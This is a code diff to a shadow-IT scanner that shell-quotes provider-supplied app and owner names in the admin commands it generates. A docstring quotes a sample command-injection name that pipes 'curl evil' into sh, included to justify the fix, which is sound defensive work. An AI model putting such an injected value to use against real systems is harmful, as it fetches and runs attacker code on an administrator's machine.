@@ -20,6 +20,7 @@ from __future__ import annotations
 import math
 from collections.abc import Mapping, Sequence
 from datetime import date, timedelta
+from shlex import quote
 from typing import Any
 
 from scanner.analysis.owner_advice import owner_advice
@@ -50,6 +51,7 @@ ACCEPT_DAYS = 90
 REVIEW_DAYS = 365
 """``--review-by`` in a re-review line: a year, the usual sanction review period."""
 CONFIG = "config.toml"
+"""The config file in the commands (the model does not know the path it was read from)."""
 
 # Console paths. Entra: "Review permissions granted to enterprise applications" and "Disable
 # user sign-in for an application" (learn.microsoft.com/entra/identity/enterprise-apps/
@@ -171,7 +173,7 @@ def next_step(
         until = (today + timedelta(days=REVIEW_DAYS)).isoformat()
         return (
             "re-review it and set the next review date:",
-            f'shadowit sanction --config {CONFIG} "{name}" --review-by {until}',
+            f"shadowit sanction --config {CONFIG} {quote(name)} --review-by {until}",
             "command",
         )
     return _accept_step(finding, today)
@@ -182,13 +184,14 @@ def _decide(app: Mapping[str, Any], finding: Mapping[str, Any]) -> tuple[str, st
     if finding["severity"] in ("critical", "high"):
         return (
             "ban it unless a team needs it (then sanction it with an owner):",
-            f'shadowit sanction --config {CONFIG} "{name}" --status banned',
+            f"shadowit sanction --config {CONFIG} {quote(name)} --status banned",
             "command",
         )
     owner = (app.get("ownership") or {}).get("owner") or app.get("likely_owner") or "OWNER"
     return (
         "sanction it with its owner, or ban it with --status banned:",
-        f'shadowit sanction --config {CONFIG} "{name}" --status sanctioned --owner {owner}',
+        f"shadowit sanction --config {CONFIG} {quote(name)} --status sanctioned "
+        f"--owner {quote(owner)}",
         "command",
     )
 
@@ -199,10 +202,12 @@ def _owner_step(app: Mapping[str, Any]) -> tuple[str, str, str]:
     send = f"shadowit confirm send --config {CONFIG}"
     if state == "sanction_requested":
         owner = confirmation.get("owner") or "OWNER"
-        command = f'shadowit sanction --config {CONFIG} "{app["name"]}" --status sanctioned'
+        command = (
+            f"shadowit sanction --config {CONFIG} {quote(str(app['name']))} --status sanctioned"
+        )
         return (
             "its owner asks to sanction it; review it, then:",
-            f"{command} --owner {owner}",
+            f"{command} --owner {quote(str(owner))}",
             "command",
         )
     advice = owner_advice(str(app["name"]), state, confirmation.get("owner"))
@@ -233,5 +238,7 @@ def _accept_step(finding: Mapping[str, Any], today: date) -> tuple[str, str, str
 
 
 def accept_line(finding_id: str, until: str, reason: str = "why it is accepted") -> str:
-    """The copyable ``shadowit accept`` line for one finding."""
+    """The copyable ``shadowit accept`` line for one finding; app and person names in every
+    command are shell-quoted (``shlex.quote``): they come from providers, and a name such as
+    ``x"; curl evil | sh; "`` must stay one argument when an admin pastes the line."""
     return f'shadowit accept --config {CONFIG} {finding_id} --until {until} --reason "{reason}"'
